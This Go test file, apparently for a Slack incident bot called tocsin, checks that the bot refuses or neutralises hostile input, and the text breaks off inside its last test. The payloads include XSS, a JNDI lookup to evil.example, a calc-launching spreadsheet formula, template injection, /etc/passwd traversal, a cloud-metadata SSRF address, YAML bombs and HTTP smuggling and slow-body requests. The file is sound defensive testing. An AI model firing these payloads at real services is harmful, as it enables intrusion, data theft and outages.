package main

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"tocsin/bot/inbound"
	"tocsin/bot/incident"
	"tocsin/bot/sandbox"
	"tocsin/store"
)

// evil would ping, link, style, forge a message or a page, run, and steer a terminal,
// if anybody took it for more than text.
const evil = "<!channel> <!here|x> <@U0DINA> <!subteam^S1> <https://evil.example|bank> [bank](https://evil.example) ![x](https://evil.example/x.png) " +
	"*zzz* **zzz** _zzz_ ~zzz~ `zzz` <script>zzz()</script><img src=x onerror=zzz()> {{call .Secret}} {{define \"x\"}} ${jndi:ldap://evil.example} " +
	`{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}} ` + "\x1b[2J\u009b2J\u202e\u200b | =cmd|'/c calc'!A1"

// said is evil as a person may say it: whom they name is meant.
var said = strings.ReplaceAll(evil, "<@U0DINA> ", "")

// siege is a running bot, and everything that it has written anywhere.
type siege struct {
	t *testing.T
	*sandboxRun
	log  journal
	n    int
	file string // its record
}

func besiege(t *testing.T) *siege {
	t.Helper()
	s := &siege{t: t, file: filepath.Join(t.TempDir(), "tocsin.db")}
	e := &env{ctx: t.Context(), stdout: io.Discard, stderr: io.Discard, log: slog.New(slog.NewTextHandler(&s.log, &slog.HandlerOptions{Level: slog.LevelDebug}))}
	s.sandboxRun = startIn(t, e, s.file, "127.0.0.1:0")
	t.Cleanup(func() { s.close() })
	return s
}

// startIn starts a bot that is reached by signed HTTP.
func startIn(t *testing.T, e *env, file, addr string) *sandboxRun {
	t.Helper()
	run, err := startSandbox(e, &sandboxCmd{Addr: addr, Store: "bolt:" + file, HTTP: true, pace: fullSpeed})
	must(t, err)
	return run
}

// got is what came of something hostile.
type got struct {
	status int // of HTTP; a subcommand's exit code
	said   string
}

func (s *siege) send(r *http.Request) got {
	s.t.Helper()
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return got{0, err.Error()}
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return got{resp.StatusCode, string(body)}
}

func (s *siege) request(method, path, body string, headers ...string) *http.Request {
	s.t.Helper()
	r, err := http.NewRequest(method, s.url+path, strings.NewReader(body))
	must(s.t, err)
	r.Header.Set("Content-Type", "application/json")
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	return r
}

func mac(secret, body string) string {
	sum := hmac.New(sha256.New, []byte(secret))
	sum.Write([]byte(body))
	return hex.EncodeToString(sum.Sum(nil))
}

// proof is the header by which a source proves a body.
func proof(source, body string) []string {
	switch source {
	case "pagerduty":
		return []string{"X-PagerDuty-Signature", "v1=" + mac(sandboxPagerSecret, body)}
	case "sentry":
		return []string{"Sentry-Hook-Signature", mac(sandboxWebhookToken, body), "Sentry-Hook-Resource", "event_alert"}
	}
	return []string{"Authorization", "Bearer " + sandboxWebhookToken}
}

// webhook sends a body that is proven.
func (s *siege) webhook(source, body string, headers ...string) got {
	return s.send(s.request("POST", "/webhook/"+source, body, append(proof(source, body), headers...)...))
}

// slack sends what Slack signs.
func (s *siege) slack(what, body string) got {
	return s.send(slackRequest(s.request("POST", "/slack/"+what, body), body, time.Now()))
}

func slackRequest(r *http.Request, body string, at time.Time) *http.Request {
	timestamp, signature := sandbox.Sign(sandboxSigningSecret, at, []byte(body))
	r.Header.Set("X-Slack-Request-Timestamp", timestamp)
	r.Header.Set("X-Slack-Signature", signature)
	return r
}

// typed is the form of a slash command.
func (s *siege) typed(line string, more ...string) string {
	s.n++
	v := url.Values{"command": {"/incident"}, "text": {line}, "user_id": {ada}, "user_name": {"ada"}, "channel_id": {"CNONE"}, "trigger_id": {fmt.Sprint("t", s.n)}}
	for i := 0; i < len(more); i += 2 {
		v.Set(more[i], more[i+1])
	}
	return v.Encode()
}

func (s *siege) says(line string, more ...string) got {
	return s.slack("command", s.typed(line, more...))
}

// interacts sends what a person did with a message or a form, as JSON.
func (s *siege) interacts(payload string) got {
	s.n++
	payload = strings.ReplaceAll(payload, "TRIGGER", fmt.Sprint("t", s.n))
	return s.slack("interaction", url.Values{"payload": {payload}}.Encode())
}

// sampleOf is a real body of a source, and spoiled the same with evil in all its words.
func sampleOf(t *testing.T, source string) string {
	t.Helper()
	file := map[string]string{
		"pagerduty": "../../bot/pagerduty/testdata/events.jsonl", "alertmanager": "../../bot/alert/testdata/alertmanager/firing.json",
		"grafana": "../../bot/alert/testdata/grafana/firing.json", "datadog": "../../bot/alert/testdata/datadog/triggered.json",
		"generic": "../../bot/alert/testdata/generic/firing.json", "sentry": "../../bot/alert/testdata/sentry/event-alert.json",
	}[source]
	data, err := os.ReadFile(file)
	must(t, err)
	if source == "pagerduty" {
		data, _, _ = bytes.Cut(data, []byte("\n"))
	}
	return string(data)
}

func spoiled(t *testing.T, source string) string {
	t.Helper()
	var v any
	must(t, json.Unmarshal([]byte(sampleOf(t, source)), &v))
	words := []string{"title", "summary", "description", "message", "body", "alertname", "service", "name", "text_only_msg", "alert_title", "culprit", "url", "link", "html_url", "runbook_url", "generatorURL", "dedup_key", "triggered_rule"}
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			for key, value := range v {
				if _, text := value.(string); text && slices.Contains(words, key) {
					v[key] = evil
				}
				walk(value)
			}
		case []any:
			for _, value := range v {
				walk(value)
			}
		}
	}
	walk(v)
	data, err := json.Marshal(v)
	must(t, err)
	return string(data)
}

// attack is something hostile, and what it gets. What is answered with nothing at once
// leaves nothing on any timeline, but where leaves says what.
type attack struct {
	name   string
	do     func(s *siege) got
	status int
	says   string
}

// leaves are the facts that attacks leave which are answered with nothing.
var leaves = map[string]string{
	"button: a target that is none": "PageAsked", // which PagerDuty refuses, as the room is told
}

func deep(n int) string { return strings.Repeat(`{"a":[`, n/2) + strings.Repeat(`]}`, n/2) }

// onSources are attacks on each webhook.
func onSources(t *testing.T) (list []attack) {
	for _, source := range []string{"pagerduty", "alertmanager", "grafana", "datadog", "generic", "sentry"} {
		good := sampleOf(t, source)
		path := "/webhook/" + source
		add := func(name string, status int, says string, do func(*siege) got) {
			list = append(list, attack{source + ": " + name, do, status, says})
		}
		body := func(b string, headers ...string) func(*siege) got {
			return func(s *siege) got { return s.webhook(source, b, headers...) }
		}
		raw := func(method, path, b string, headers ...string) func(*siege) got {
			return func(s *siege) got { return s.send(s.request(method, path, b, headers...)) }
		}
		unproven := map[string]string{"pagerduty": "check PAGERDUTY_WEBHOOK_SECRET", "sentry": "check TOCSIN_SENTRY_SECRET"}[source]
		if unproven == "" {
			unproven = "TOCSIN_WEBHOOK_TOKEN"
		}
		add("no proof", 401, unproven, raw("POST", path, good))
		add("another's proof", 401, unproven, raw("POST", path, good, "Authorization", "Bearer sandbox-webhook-tokem", "X-PagerDuty-Signature", "v1="+mac("x", good), "Sentry-Hook-Signature", mac("x", good)))
		add("a proof of nothing", 401, unproven, raw("POST", path, good, "Authorization", "Bearer ", "X-PagerDuty-Signature", "v1=", "Sentry-Hook-Signature", ""))
		add("the proof in the address", 401, unproven, raw("POST", path+"?token="+sandboxWebhookToken, good))
		add("no JSON", 400, "cannot be read", body("alerts=1"))
		add("10,000 deep", 400, "cannot be read", body(deep(10_002)))
		add("a list of nothing", 400, "cannot be read", body("[[]]"))
		add("too large", 413, "larger than 1048576", body(good+strings.Repeat(" ", 1<<20)))
		add("packed", 415, "without compression", body(good, "Content-Encoding", "gzip"))
		add("hostile words", 202, `"stored":true`, body(spoiled(t, source)))
		add("read, not sent", 404, "page not found", raw("GET", path, ""))
	}
	return list
}

// onSlack are attacks by what Slack delivers, and by those who say they are Slack.
func onSlack() []attack {
	command := func(line string, more ...string) func(*siege) got {
		return func(s *siege) got { return s.says(line, more...) }
	}
	unsigned := func(change func(*http.Request)) func(*siege) got {
		return func(s *siege) got {
			body := s.typed("open unsigned")
			r := slackRequest(s.request("POST", "/slack/command", body), body, time.Now())
			change(r)
			return s.send(r)
		}
	}
	at := func(d time.Duration) func(*siege) got {
		return func(s *siege) got {
			body := s.typed("open at another time")
			return s.send(slackRequest(s.request("POST", "/slack/command", body), body, time.Now().Add(d)))
		}
	}
	interaction := func(payload string) func(*siege) got {
		return func(s *siege) got { return s.interacts(payload) }
	}
	button := func(value string) func(*siege) got {
		v, _ := json.Marshal(value)
		return interaction(`{"type":"block_actions","user":{"id":"U0ADA"},"trigger_id":"TRIGGER","channel":{"id":"CNONE"},"actions":[{"type":"button","action_id":"x","block_id":"b","value":` + string(v) + `}]}`)
	}
	form := func(meta, values string) func(*siege) got {
		m, _ := json.Marshal(meta)
		return interaction(`{"type":"view_submission","user":{"id":"U0ADA"},"view":{"id":"VTRIGGER","type":"modal","private_metadata":` + string(m) + `,"blocks":[{"type":"input","block_id":"title","label":{"type":"plain_text","text":"x"},"element":{"type":"plain_text_input","action_id":"title"}}],"state":{"values":` + values + `}}}`)
	}
	event := func(body string) func(*siege) got { return func(s *siege) got { return s.slack("event", body) } }
	text, _ := json.Marshal(said)
	return []attack{
		{"Slack: unsigned", unsigned(func(r *http.Request) { r.Header.Del("X-Slack-Signature") }), 401, "not signed by Slack"},
		{"Slack: no time", unsigned(func(r *http.Request) { r.Header.Del("X-Slack-Request-Timestamp") }), 401, "not signed by Slack"},
		{"Slack: another body", unsigned(func(r *http.Request) { r.Body = io.NopCloser(strings.NewReader("text=open")); r.ContentLength = 9 }), 401, "not signed by Slack"},
		{"Slack: another version", unsigned(func(r *http.Request) { r.Header.Set("X-Slack-Signature", "v1=00") }), 401, "not signed by Slack"},
		{"Slack: an endless signature", unsigned(func(r *http.Request) { r.Header.Set("X-Slack-Signature", "v0="+strings.Repeat("00", 20_000)) }), 401, "not signed by Slack"},
		{"Slack: a time that is none", unsigned(func(r *http.Request) { r.Header.Set("X-Slack-Request-Timestamp", "99999999999999999999") }), 401, "not signed by Slack"},
		{"Slack: packed", unsigned(func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }), 415, "without compression"},
		{"Slack: six minutes old", at(-6 * time.Minute), 401, "too old"},
		{"Slack: of the future", at(6 * time.Minute), 401, "not signed by Slack"},
		{"Slack: a form that is none", func(s *siege) got { return s.slack("command", "%zz") }, 400, "cannot be read"},
		{"Slack: too large", func(s *siege) got { return s.slack("command", s.typed(strings.Repeat("a", 1<<20))) }, 413, "larger than"},
		{"Slack: nobody", command("open x", "user_id", ""), 400, "no user_id"},
		{"Slack: no trigger", command("open x", "trigger_id", ""), 400, "no trigger_id"},
		{"Slack: 100,000 fields", func(s *siege) got { return s.slack("command", strings.Repeat("a=b&", 100_000)) }, 400, "exceeded limit"},
		{"command: hostile title", command("open sev2 " + said), 200, "INC-"},
		{"command: hostile note", command("INC-1 note " + said), 200, "Noted"},
		{"command: hostile update", command("INC-1 update " + said), 200, "is out"},
		{"command: hostile verb", command(said), 200, "I don't know"},
		{"command: hostile search", command("guide " + said), 200, "I am not sure which guide fits"},
		{"command: hostile change", command("changed prompt " + said), 200, "On the record"},
		{"command: a name that is hostile", command("INC-1 take scribe", "user_name", evil, "user_id", mei), 200, "scribe"},
		{"command: a channel that is hostile", command("list", "channel_id", evil), 200, "INC-"},
		{"command: 4,000 characters", command("open " + strings.Repeat("zzz ", 1000)), 200, "INC-"},
		{"command: a number that is none", command("INC-99999999999999999999 note x"), 200, "I don't know “inc-99999999999999999999”"},
		{"command: INC-0", command("INC-0 note x"), 200, "I don't know “inc-0”"},
		{"command: 10,000 alerts", command("INC-1 detach 1-99999999"), 200, "is no alert"},
		{"command: minus one", command("INC-1 task done -1"), 200, "There is no task -1"},
		{"command: a date that is none", command("INC-1 began 2026-99-99"), 200, "I cannot read the time “2026-99-99”"},
		{"command: an endless date", command("INC-1 began " + strings.Repeat("9", 3000)), 200, "I cannot read the time “9999"},
		{"command: a path for a guide", command("guide ../../../etc/passwd"), 200, "I am not sure which guide fits"},
		{"command: no text", command("\x00\x00"), 200, "I don't know “”"},
		{"command: bytes that are no text", command("INC-1 note \xff\xfe"), 200, "Noted"},
		{"command: an answer to elsewhere", command("INC-1 timeline", "response_url", "https://evil.example/"), 200, "INC-1 · timeline"},
		{"command: an answer to this machine", command("help", "response_url", "http://169.254.169.254/latest/meta-data/"), 200, "Something looks wrong?"},
		{"button: hostile", button(said), 200, ""},
		{"button: endless", button("INC-1 note " + strings.Repeat("a", 100_000)), 200, ""},
		{"button: a target that is none", button("INC-1 page =user/../x= "), 200, ""},
		{"button: none", interaction(`{"type":"block_actions","user":{"id":"U0ADA"},"trigger_id":"TRIGGER","actions":[]}`), 200, ""},
		{"interaction: of no kind", interaction(`{"type":"zzz"}`), 200, ""},
		{"interaction: null", interaction(`null`), 200, ""},
		{"interaction: no JSON", interaction(`{`), 400, "cannot be read"},
		{"interaction: 10,000 deep", interaction(deep(10_002)), 400, "cannot be read"},
		{"interaction: a field twice", interaction(`{"type":"zzz","type":"block_actions","user":{"id":"U0ADA"},"actions":null}`), 200, ""},
		{"interaction: a message that is hostile", interaction(`{"type":"message_action","callback_id":"timeline_add","user":{"id":"U0ADA"},"trigger_id":"TRIGGER","channel":{"id":"CNONE"},"message":{"ts":"1.2","text":` + string(text) + `}}`), 200, ""},
		{"form: hostile", form(`{"command":"open"}`, `{"title":{"title":{"type":"plain_text_input","value":`+string(text)+`}}}`), 200, "INC-"},
		{"form: of nothing", form(`zzz`, `{}`), 200, ""},
		{"form: of another incident", form(`{"command":"INC-77 note"}`, `{"text":{"text":{"type":"plain_text_input","value":"x"}}}`), 200, "There is no incident"},
		{"form: a severity that is none", form(`{"command":"open"}`, `{"title":{"title":{"value":"x"}},"severity":{"severity":{"selected_option":{"value":"sev99"}}}}`), 200, "errors"},
		{"event: no JSON", event(`{`), 400, "cannot be read"},
		{"event: a list", event(`[]`), 400, "cannot be read"},
		{"event: 10,000 deep", event(deep(10_002)), 400, "cannot be read"},
		{"event: hostile challenge", event(`{"type":"url_verification","challenge":"<script>"}`), 200, "<script>"},
		{"event: a pin of nothing", event(`{"type":"event_callback","event_id":"E1","event":{"type":"reaction_added","user":"U0ADA","reaction":"pushpin","item":{"type":"message","channel":"../x","ts":"zzz"}}}`), 200, ""},
	}
}

// onPages are attacks on what anybody may read.
func onPages() []attack {
	page := func(method, path string, headers ...string) func(*siege) got {
		return func(s *siege) got { return s.send(s.request(method, path, "", headers...)) }
	}
	raw := func(text string) func(*siege) got {
		return func(s *siege) got {
			conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
			must(s.t, err)
			defer conn.Close()
			go io.WriteString(conn, text)
			answer, _ := io.ReadAll(io.LimitReader(conn, 100))
			var status int
			fmt.Sscanf(string(answer), "HTTP/1.1 %d", &status)
			return got{status, string(answer)}
		}
	}
	const token = "Authorization: Bearer " + sandboxWebhookToken + "\r\n"
	return []attack{
		{"page: up", page("GET", "/guides/..%2f..%2fetc%2fpasswd"), 404, "No such guide"},
		{"page: up by dots", raw("GET /guides/../../etc/passwd HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"), 307, "Location: /etc/passwd"},
		{"page: a guide that is hostile", page("GET", "/guides/"+url.PathEscape("<script>zzz()</script>")), 404, "No such guide"},
		{"page: a search that is hostile", page("GET", "/guides/?q="+url.QueryEscape(evil)), 200, "<title>Which guide fits?</title>"},
		{"page: a symptom that is hostile", page("GET", "/guides/?q=slow&symptom="+url.QueryEscape(evil)), 200, "<title>Which guide fits?</title>"},
		{"page: an endless search", page("GET", "/guides/?q="+strings.Repeat("zzz+", 10_000)), 200, "<title>Which guide fits?</title>"},
		{"page: to elsewhere", page("GET", "/guides?//evil.example"), 200, "<title>Guides</title>"},
		{"page: changed", page("DELETE", "/guides/triage"), 405, "Method Not Allowed"},
		{"page: a record that is none", page("GET", "/postmortem/INC-1", "Host", "127.0.0.1"), 404, "page not found"},
		{"page: the control socket's", page("GET", "/timeline/INC-1"), 404, "page not found"},
		{"HTTP: a header bomb", raw("GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + strings.Repeat("a", 200_000) + "\r\n\r\n"), 431, "Header Fields Too Large"},
		{"HTTP: two lengths", raw("POST /webhook/generic HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"), 400, "400 Bad Request"},
		{"HTTP: a length and chunks", raw("POST /webhook/generic HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: a broken chunk", raw("POST /webhook/generic HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + token + "\r\nzzz\r\n"), 400, "400 Bad Request"},
		{"HTTP: endless chunks", raw("POST /webhook/generic HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n" + token + "\r\n" + strings.Repeat("10000\r\n"+strings.Repeat("a", 1<<16)+"\r\n", 17)), 413, "413 Request Entity Too Large"},
		{"HTTP: a body that never comes, of nobody, to a monitor's door", raw("POST /webhook/generic HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: a body that never comes, of nobody, to PagerDuty's", raw("POST /webhook/pagerduty HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: a body that never comes, of nobody, to Sentry's", raw("POST /webhook/sentry HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: a body that never comes, of nobody, to Slack's", raw("POST /slack/event HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: a body that never comes, of long ago, to Slack's", raw("POST /slack/event HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\nX-Slack-Request-Timestamp: 1700000000\r\nX-Slack-Signature: v0=" + mac("x", "") + "\r\n\r\n"), 401, "401 Unauthorized"},
		{"HTTP: no HTTP", raw("zzz\r\n\r\n"), 400, "400 Bad Request"},
		{"HTTP: a line in a header", raw("GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\rb\r\n\r\n"), 400, "400 Bad Request"},
		{"webhook: of nobody", page("POST", "/webhook/zzz"), 405, "Method Not Allowed"},
		{"webhook: a sender that is a path", func(s *siege) got { return s.webhook("generic/..%2f..%2fetc", "{}") }, 400, "there is no sender"},
		{"webhook: a field twice", func(s *siege) got {
			return s.webhook("generic", `{"dedup_key":"a","dedup_key":"b","status":"firing","title":"twice","title":"zzz"}`)
		}, 202, `"stored":true`},
		{"webhook: a source of another name", func(s *siege) got {
			return s.webhook("generic", `{"source":"pagerduty/../slack","dedup_key":"a","status":"firing","title":"zzz"}`)
		}, 202, `"stored":true`},
		{"webhook: a time that is none", func(s *siege) got {
			return s.webhook("generic", `{"dedup_key":"c","status":"firing","title":"zzz","started_at":"99999-13-45"}`)
		}, 202, `"stored":true`},
		{"webhook: a sender of SNS that nobody listens to", page("POST", "/webhook/cloudwatch"), 405, "Method Not Allowed"},
	}
}

// onContent are files that somebody brought into a team's content.
func onContent() []attack {
	file := func(name, text string) func(*siege) got {
		return func(s *siege) got {
			m := newTeam(s.t, name, text)
			return got{0, strings.Join(m.content.problems, "\n")}
		}
	}
	template := func(text string) func(*siege) got { return file("templates/postmortem.md", text) }
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ntitle: [*f,*f,*f,*f,*f]\n"
	return []attack{
		{"template: reads a file", template(`{{readFile "/etc/passwd"}}`), 0, `function "readFile" not defined`},
		{"template: calls", template(`{{call .Title}}`), 0, "call is not for templates"},
		{"template: a method", template(`{{.Title.Exec "id"}}`), 0, "can't evaluate field Exec"},
		{"template: a field that is none", template(`{{.Secrets}}`), 0, "can't evaluate field Secrets"},
		{"template: itself for ever", template(`{{define "x"}}{{template "x"}}{{end}}{{template "x"}}`), 0, "exceeded maximum template depth"},
		{"template: one that is not there", template(`{{template "/etc/passwd"}}`), 0, "not defined"},
		{"template: without end", template(`{{range $i := 1000000000}}zzzzzzzzzz{{end}}`), 0, "renders more than 1048576 bytes"},
		{"template: in HTML", template(`<script>zzz()</script>{{html "<b>"}}`), 0, ""},
		{"template: the environment", template(`{{env "SLACK_BOT_TOKEN"}}`), 0, `function "env" not defined`},
		{"guide: no front matter", file("runbooks/a.md", evil), 0, "there is no front matter"},
		{"guide: a YAML bomb", file("runbooks/a.md", "---\n"+bomb+"---\n"), 0, "left out"},
		{"guide: an id that is a path", file("runbooks/a.md", aGuide("../../a", "T")), 0, "left out"},
		{"guide: too large", file("runbooks/a.md", aGuide("a", "T")+strings.Repeat("zzz ", 300_000)), 0, "larger than 1 MiB"},
		{"guide: a kind of YAML", file("runbooks/a.md", "---\nid: !!python/object/apply:os.system [id]\n---\n"), 0, "left out"},
		{"play: no front matter", file("playbooks/a.md", evil), 0, "there is no front matter"},
		{"service: hostile", file("services/a.md", "---\nid: a\nprovider: ["+strings.Repeat("[", 500)+"]\n---\n"), 0, "left out"},
		{"sender: a name that is a path", file("alerts/a.md", "---\nname: ../a\nfields: {key: x, state: y}\n---\n"), 0, "the name is"},
	}
}

// onShell are arguments of subcommands. 1: refused; 80: not understood.
func onShell() []attack {
	run := func(args ...string) func(*siege) got {
		return func(s *siege) got {
			var out bytes.Buffer
			code := execute(&env{ctx: s.t.Context(), stdin: strings.NewReader(evil), stdout: &out, stderr: &out, log: slog.New(slog.DiscardHandler)}, args)
			return got{code, out.String()}
		}
	}
	return []attack{
		{"shell: hostile", run(evil), 80, "unexpected argument"},
		{"shell: an incident that is a path", run("timeline", "../../etc/passwd"), 1, "is no incident"},
		{"shell: an incident that is hostile", run("postmortem", evil), 1, "is no incident"},
		{"shell: a store that is hostile", run("timeline", "INC-1", "--store", evil), 1, "has to be bolt:FILE"},
		{"shell: a store that is a folder", run("timeline", "INC-1", "--store", "bolt:/etc"), 1, "is no regular file"},
		{"shell: content that is a file", run("guides", "list", "--content", "/etc/passwd"), 1, "no directory that can be read"},
		{"shell: a guide that is a path", run("guides", "show", "../../../etc/passwd"), 1, "there is no guide"},
		{"shell: a report that is hostile", run("guides", "match"), 0, "no guide: it could be"},
		{"shell: an address that is hostile", run("manifest", "--url", "javascript:zzz()"), 1, "has to be an address"},
		{"shell: a play that is hostile", run("sandbox", "--play", evil), 80, "must be one of"},
	}
}

// TestHostile: everything hostile that we could think of, through the doors that are
// there, and what it gets. Afterwards the bot serves, and nothing of it was taken for
// more than text.
func TestHostile(t *testing.T) {
	s := besiege(t)
	attacks := slices.Concat(onSlack(), onSources(t), onPages(), onContent(), onShell())
	if len(attacks) < 80 {
		t.Errorf("only %d attacks", len(attacks))
	}
	for _, a := range attacks {
		was := s.asked()
		g := a.do(s)
		if left := strings.TrimPrefix(s.asked(), was); g.status == 200 && g.said == "" && (left != "" || leaves[a.name] != "") && (leaves[a.name] == "" || !strings.Contains(left, leaves[a.name])) {
			t.Errorf("%s: it left %.300q, want %q", a.name, left, leaves[a.name])
		}
		s.literal(g.said)
		if g.status != a.status || !strings.Contains(g.said, a.says) {
			t.Errorf("%s: %d %.300q, want %d with %q", a.name, g.status, g.said, a.status, a.says)
		}
		if strings.Contains(g.said, "root:x:0") || strings.Contains(g.said, "<script>zzz") && strings.HasPrefix(a.name, "page") || strings.HasPrefix(a.name, "shell") && steers(g.said) {
			t.Errorf("%s: %.2000q", a.name, g.said)
		}
	}
	s.settled()
	s.opened()
	s.settled()
	s.harmless()
	s.pages()
	s.printed()
	s.paged()
	if g := s.says("INC-1 note still here"); g.status != 200 || !strings.Contains(g.said, "Noted") {
		t.Errorf("afterwards: %+v", g)
	}
	t.Logf("%d attacks", len(attacks))
}

// TestHalfOpen: hundreds who never finish what they say keep nobody else waiting.
func TestHalfOpen(t *testing.T) {
	t.Parallel()
	s := besiege(t)
	for n := range 400 {
		conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
		must(t, err)
		defer conn.Close()
		io.WriteString(conn, []string{
			"", "P", "POST /webhook/generic HTTP/1.1\r\nHost: x\r\nX-", "POST /webhook/generic HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{",
			"POST /slack/command HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n",
		}[n%5])
	}
	begun := time.Now()
	if g := s.webhook("generic", sampleOf(t, "generic")); g.status != 202 {
		t.Errorf("%+v", g)
	}
	if g := s.says("open sev2 Answers are wrong"); g.status != 200 || !strings.Contains(g.said, "INC-") {
		t.Errorf("%+v", g)
	}
	if took := time.Since(begun); took > 4*time.Second {
		t.Errorf("others wait %v", took)
	}
}

// TestHeldBodies: whoever knows what a proof looks like, and no secret, fills no memory by
// large bodies without their last byte, at the doors that have to read one to prove it.
// People and monitors are answered meanwhile.
func TestHeldBodies(t *testing.T) {
	t.Parallel()
	p := office(t).serve(t, filepath.Join(t.TempDir(), "tocsin.db"), byHTTP, "TOCSIN_SENTRY_SECRET=sentry")
	before, _ := p.memory(t)
	none := hex.EncodeToString(make([]byte, sha256.Size))
	doors := []string{
		"/webhook/pagerduty HTTP/1.1\r\nX-PagerDuty-Signature: v1=" + none, "/webhook/sentry HTTP/1.1\r\nSentry-Hook-Signature: " + none,
		fmt.Sprintf("/slack/command HTTP/1.1\r\nX-Slack-Request-Timestamp: %d\r\nX-Slack-Signature: v0=%s", time.Now().Unix(), none),
	}
	body, answers := strings.Repeat("a", inbound.MaxRequest-1), make(chan string, 400*len(doors))
	for n := range cap(answers) {
		conn, err := net.Dial("tcp", p.addr)
		must(t, err)
		defer conn.Close()
		go fmt.Fprintf(conn, "POST %s\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", doors[n%len(doors)], inbound.MaxRequest, body)
		go func() {
			answer := make([]byte, len("HTTP/1.1 503"))
			io.ReadFull(conn, answer)
			answers <- string(answer)
		}()
	}
	var most float64
	for n := range cap(answers) - 32 { // the others it has room for
		if got := <-answers; got != "HTTP/1.1 503" {
			t.Fatalf("%q", got)
		}
		if n%50 == 0 {
			now, _ := p.memory(t)
			most = max(most, now)
		}
	}
	if status, said, err := p.command(t.Context(), "t1", "open sev2 Answers are wrong"); status != 200 || !strings.Contains(said, "INC-") || err != nil {
		t.Errorf("a command: %d %s %v", status, said, err)
	}
	if status, said, err := p.alert(t.Context(), "a"); status != 202 || err != nil {
		t.Errorf("an alert: %d %s %v", status, said, err)
	}
	now, _ := p.memory(t)
	if most = max(most, now); most > 120 && !race {
		t.Errorf("it had up to %.0f MiB, and %.0f before", most, before)
	}
	t.Logf("up to %.0f MiB, and %.0f before", most, before)
}

// TestPlayedBack: whoever has recorded what Slack and PagerDuty signed can play it back
// for five minutes, and for ever; before a restart and after it, it is answered and
// changes nothing.
func TestPlayedBack(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	s := &siege{t: t}
	start := func() {
		e := &env{ctx: t.Context(), stdout: io.Discard, stderr: io.Discard, log: slog.New(slog.NewTextHandler(&s.log, nil))}
		s.sandboxRun = startIn(t, e, filepath.Join(dir, "tocsin.db"), "127.0.0.1:0")
	}
	start()
	bodies := []struct{ path, body string }{
		{"/slack/command", s.typed("open sev2 Answers are wrong")}, {"/slack/command", s.typed("INC-1 note hello")}, {"/slack/command", s.typed("hold")}, {"/slack/command", s.typed("hold off")},
		{"/slack/command", s.typed("INC-1 sev 1")}, {"/slack/command", s.typed("INC-1 sev 3")}, {"/slack/command", s.typed("changed prompt v12")}, {"/webhook/generic", sampleOf(t, "generic")}, {"/webhook/pagerduty", sampleOf(t, "pagerduty")},
		{"/slack/interaction", url.Values{"payload": {`{"type":"block_actions","user":{"id":"U0ADA"},"trigger_id":"b1","actions":[{"type":"button","action_id":"x","block_id":"b","value":"INC-1 take scribe"}]}`}}.Encode()},
		{"/slack/interaction", url.Values{"payload": {`{"type":"view_submission","user":{"id":"U0ADA"},"view":{"id":"V1","type":"modal","private_metadata":"{\"command\":\"open\"}","state":{"values":{"title":{"title":{"type":"plain_text_input","value":"From a form"}}}}}}`}}.Encode()},
	}
	s.send(slackRequest(s.request("POST", bodies[0].path, bodies[0].body), bodies[0].body, time.Now()))
	s.settled()
	inc, err := s.app.bot.Incident(t.Context(), "INC-1")
	must(t, err)
	for n, what := range []string{`member_joined_channel","user":"U0BEN","channel":"%s"`, `member_left_channel","user":"U0BEN","channel":"%s"`, `reaction_added","user":"U0BEN","reaction":"pushpin","item":{"type":"message","channel":"%s","ts":"1.000001"}`} {
		body := fmt.Sprintf(`{"type":"event_callback","event_id":"Ev%d","event":{"type":"`+what+`}}`, n, inc.Channel.Channel)
		bodies = append(bodies, struct{ path, body string }{"/slack/event", body})
	}
	recorded := time.Now()
	send := func() (all []got) {
		for _, b := range bodies {
			r := slackRequest(s.request("POST", b.path, b.body, proof(strings.TrimPrefix(b.path, "/webhook/"), b.body)...), b.body, recorded)
			all = append(all, s.send(r))
		}
		s.settled()
		return all
	}
	first := send()
	before := s.record()
	for _, fact := range []string{"slack/Ev0 incident.Joined", "slack/Ev1 incident.Left", "slack/Ev2 incident.Pinned"} {
		if !strings.Contains(before, fact) {
			t.Errorf("no %s is on record: %s", fact, before)
		}
	}
	for _, again := range []string{"at once", "after a restart"} {
		if again != "at once" {
